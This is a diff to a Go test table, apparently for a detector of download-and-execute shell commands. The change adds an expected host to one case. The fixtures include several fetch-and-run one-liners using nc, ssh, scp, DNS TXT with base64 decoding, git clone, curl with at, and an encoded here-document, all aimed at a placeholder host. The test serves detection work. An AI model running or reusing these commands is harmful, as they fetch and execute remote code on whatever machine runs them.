@@ -44,7 +44,7 @@ var reaches = []struct {
 	{"netcat", "a.sh", "nc a.invalid 4444 | bash\n", want{tool: "nc", host: "a.invalid", to: "pipe", runBy: "bash", insecure: true}},
 	{"ssh", "a.sh", "ssh -o StrictHostKeyChecking=no guest@a.invalid cat fix.sh | bash\n", want{tool: "ssh", host: "a.invalid", to: "pipe", runBy: "bash"}},
 	{"scp", "a.sh", "scp -q guest@a.invalid:fix.sh /tmp/fix.sh && bash /tmp/fix.sh\n", want{tool: "scp", host: "a.invalid", to: "temp", runBy: "bash"}},
-	{"dns", "a.sh", "dig +short TXT fix.a.invalid | tr -d '\"' | base64 -d | bash\n", want{tool: "dns", to: "pipe", runBy: "bash", traits: "decoded-then-run"}},
+	{"dns", "a.sh", "dig +short TXT fix.a.invalid | tr -d '\"' | base64 -d | bash\n", want{tool: "dns", host: "fix.a.invalid", to: "pipe", runBy: "bash", traits: "decoded-then-run"}},
 	{"git", "a.sh", "git clone -q https://a.invalid/sdk.git /tmp/.sdk && bash /tmp/.sdk/install.sh\n", want{tool: "git", host: "a.invalid", to: "temp", runBy: "bash"}},
 	{"at", "a.sh", "curl -s https://a.invalid/at -o /tmp/.q; echo 'sh /tmp/.q' | at now + 1 minute\n", want{tool: "curl", host: "a.invalid", to: "temp", runBy: "sh"}},
 	{"here-document", "a.sh", "base64 -d <<E | sh\n" + b64("curl -s https://a.invalid/h | bash") + "\nE\n", want{tool: "curl", host: "a.invalid", to: "pipe", runBy: "bash", layers: 1, traits: "decoded-then-run"}},
